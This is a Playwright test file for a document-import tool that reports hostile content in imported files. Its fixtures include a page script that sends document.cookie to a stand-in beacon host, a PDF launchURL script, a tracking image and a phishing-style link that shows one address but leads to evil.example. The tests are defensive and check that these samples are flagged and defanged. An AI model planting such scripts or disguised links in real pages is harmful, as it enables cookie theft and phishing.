import { copyFileSync, mkdirSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from '@playwright/test'
import { htmlPage, prose } from '../builders/html'
import { multipart, plainPart, sent } from '../builders/mail'
import { pdf } from '../builders/pdf'
import { importFiles, makeCase, unlock } from './analyst'
import { passphraseWords, runCommand } from './command'
import { newHome, type Program, startProgram } from './program'
import { seriousFindings } from './serious-findings'

const PAGE =
  '<!doctype html><html lang="en"><head><title>Ships at anchor | Quay News</title>' +
  '<meta property="og:site_name" content="Quay News">' +
  '<meta property="article:published_time" content="2021-07-19T08:00:00Z">' +
  '<meta name="dcterms.date" content="2021-07-21">' +
  '<meta property="article:modified_time" content="2021-07-22">' +
  '<link rel="canonical" href="https://quay.example/ships">' +
  '<script>fetch("https://beacon.example/?" + document.cookie)</script></head>' +
  '<body onload="go()"><article><p>Eleven ships lie at anchor before the harbour.</p>' +
  '<img src="https://beacon.example/1.gif"></article></body></html>'
const MAIL = sent(
  multipart(
    'alternative',
    [plainPart('The cranes stand still.')],
    [
      'Received: from a.example by b.example; Mon, 19 Jul 2021 14:00:01 +0200',
      'From: Jane Doe <jane@a.example>',
      'To: desk@b.example',
      'Date: Mon, 19 Jul 2021 14:00:00 +0200',
      'Subject: The cranes',
      'X-Mailer: Pigeon 2',
    ],
  ),
)
const PAPER = pdf({
  pages: [{ lines: [{ x: 72, y: 100, text: 'The quay was rebuilt in 1998.' }] }],
  info: { Title: 'The quay', Producer: 'Press 2', CreationDate: 'D:20210719080000Z' },
  script: 'app.launchURL("https://beacon.example/")',
})
const FILES: readonly (readonly [string, Uint8Array | string])[] = [
  ['ships.html', PAGE],
  ['cranes.eml', MAIL],
  ['quay.pdf', PAPER],
  ['notes.txt', 'Nothing to report.\n'],
  ['fake.pdf', 'No PDF at all.\n'],
]

const FROZEN = join(import.meta.dirname, '../fixtures/case-files/skarn-point.format-0.casebook')

let home: string
let program: Program | null = null
test.beforeEach(() => {
  home = newHome()
  mkdirSync(join(home, 'in'))
  for (const [name, content] of FILES) writeFileSync(join(home, 'in', name), content)
})
test.afterEach(async () => {
  await program?.app.close()
  program = null
  rmSync(home, { recursive: true, force: true })
})

test('each file has a report: what was found, where its details stand, why one was refused', async () => {
  program = await startProgram([], home)
  const { page } = program
  await makeCase(page, 'The quay')
  await importFiles(
    program,
    FILES.map(([name]) => join(home, 'in', name)),
  )
  const row = page.getByRole('listitem').filter({ hasText: 'fake.pdf' })
  await row.getByRole('button', { name: 'Report' }).click()
  const report = page.getByRole('document', { name: 'Airlock report' })
  await expect(report).toContainText('The name says a PDF, the bytes are plain text.')
  await expect(report).toContainText('nothing of it is in the case')
  await expect.poll(() => seriousFindings(page)).toEqual([])

  await page.getByRole('gridcell', { name: /ships\.html/ }).click()
  const findings = report.getByRole('table', { name: 'Findings' })
  await expect(findings).toContainText('1 script in an attribute')
  await expect(findings).toContainText('Would fetch something from outside')
  await expect(findings).toContainText('19 Jul 2021 (meta article:published_time)')
  await expect(report).toContainText('fetch("hxxps://beacon[.]example/?" + document.cookie)')
  const inspector = page.getByRole('complementary', { name: 'Inspector' })
  await expect(inspector).toContainText('meta og:site_name')
  await expect.poll(() => seriousFindings(page)).toEqual([])

  await page.getByRole('gridcell', { name: /quay\.pdf/ }).click()
  await expect(report).toContainText('app.launchURL("hxxps://beacon[.]example/")')
  await expect(inspector).toContainText('Press 2')
  await page.keyboard.press('Escape')

  await page.getByRole('gridcell', { name: 'Ships at anchor' }).click()
  const published = page.getByRole('textbox', { name: 'Published' })
  await expect(published).toHaveAccessibleDescription('from meta article:published_time')
  await published.fill('20 July 2021')
  await published.press('Enter')
  await expect(published).toHaveAccessibleDescription(
    'found: 19 Jul 2021, meta article:published_time',
  )
  await expect(page.getByRole('textbox', { name: 'Modified' })).toHaveValue('22 Jul 2021')
})

test('what stands outside an article is told and taken on request; a link that lies is named', async () => {
  const body =
    `<article><p>${prose(40)}</p><p>${prose(40)} See <a href="https://evil.example/login">` +
    'https://quay.example/login</a>.</p></article><footer><p>CORRECTION: nine ships.</p></footer>'
  writeFileSync(join(home, 'in/port.html'), htmlPage({ head: '<title>The port</title>', body }))
  copyFileSync(join(home, 'in/port.html'), join(home, 'in/again.html'))
  program = await startProgram([], home)
  const { page } = program
  await makeCase(page, 'The quay')
  await importFiles(program, [join(home, 'in/port.html')])
  await importFiles(program, [join(home, 'in/again.html')])
  await page.getByRole('gridcell', { name: 'The port' }).click()
  const inspector = page.getByRole('complementary', { name: 'Inspector' })
  await expect(inspector.getByRole('list', { name: 'Also found' })).toContainText('again.html')
  await page.keyboard.press('r')
  const report = page.getByRole('document', { name: 'Airlock report' })
  const findings = report.getByRole('table', { name: 'Findings' })
  await expect(findings).toContainText('words stand outside the article: CORRECTION: nine ships.')
  await expect(findings).toContainText(
    '“hxxps://quay[.]example/login” leads to hxxps://evil[.]example/login',
  )
  await expect(report.getByRole('table', { name: 'Links' })).toContainText('evil[.]example')
  await expect.poll(() => seriousFindings(page)).toEqual([])
  await page.keyboard.press('Escape')
  await page.keyboard.press('Enter')
  const text = page.getByRole('document', { name: 'Text of S1' })
  await expect(text).not.toContainText('CORRECTION')
  await page.getByRole('button', { name: 'Take the whole page' }).click()
  await expect(text).toContainText('CORRECTION: nine ships.')
  await expect(page.getByRole('button', { name: 'Take the whole page' })).toHaveCount(0)
})

test('a mail is read with its header folded above the text, by key', async () => {
  program = await startProgram([], home)
  const { page } = program
  await makeCase(page, 'The quay')
  await importFiles(program, [join(home, 'in/cranes.eml')])
  await page.getByRole('gridcell', { name: 'The cranes' }).click()
  await page.keyboard.press('Enter')
  const text = page.getByRole('document', { name: 'Text of S1' })
  await expect(text.getByRole('heading', { name: 'The cranes' })).toBeVisible()
  await expect(text).toContainText('Jane Doe <jane@a.example>')
  await expect(text.getByText('Pigeon 2')).toHaveCount(0)
  await page.keyboard.press('h')
  await expect(text.getByText('Pigeon 2')).toBeVisible()
  await page.keyboard.press('h')
  await expect(text.getByText('Pigeon 2')).toHaveCount(0)
  await expect(text.locator('.rd-text')).toHaveText(/^\s*1?\s*The cranes stand still\.$/)
  await expect.poll(() => seriousFindings(page)).toEqual([])
})

test('a source from before there were reports says that it has none', async () => {
  copyFileSync(FROZEN, join(home, 's.casebook'))
  runCommand(home, 'upgrade', 's.casebook', ...passphraseWords(home))
  program = await startProgram([join(home, 's.casebook')], home)
  const { page } = program
  await unlock(page)
  await page.getByRole('gridcell', { name: 'S2', exact: true }).click()
  await page.keyboard.press('r')
  const report = page.getByRole('document', { name: 'Airlock report' })
  await expect(report).toContainText('No report was kept of S2')
  await page.keyboard.press('Escape')
  await expect(page.getByRole('textbox', { name: 'Modified' })).toHaveValue('')
})

test('the command line tells where the details of a file were found', () => {
  const secret = passphraseWords(home)
  const casebook = (...words: string[]) => runCommand(home, ...words)
  casebook('new', 'a.casebook', '--title', 'The quay', ...secret)
  const imported = casebook('import', 'a.casebook', 'in', '--json', ...secret)
  const ships = imported.values().find(({ file }) => file === 'in/ships.html')
  expect(ships).toMatchObject({
    published: '2021-07-19',
    modified: '2021-07-22',
    dropped: expect.arrayContaining(['1 remote picture']),
    warnings: [],
    milliseconds: expect.any(Number),
    members: 0,
    found: expect.arrayContaining([
      {
        detail: 'published',
        value: '2021-07-19',
        written: '2021-07-19T08:00:00Z',
        place: 'meta article:published_time',
      },
      { detail: 'published', value: '2021-07-21', place: 'meta dcterms.date' },
    ]),
  })
  const text = casebook('text', 'a.casebook', 'S1', ...secret)
  expect(text.out.trim()).toBe('The cranes stand still.')
})
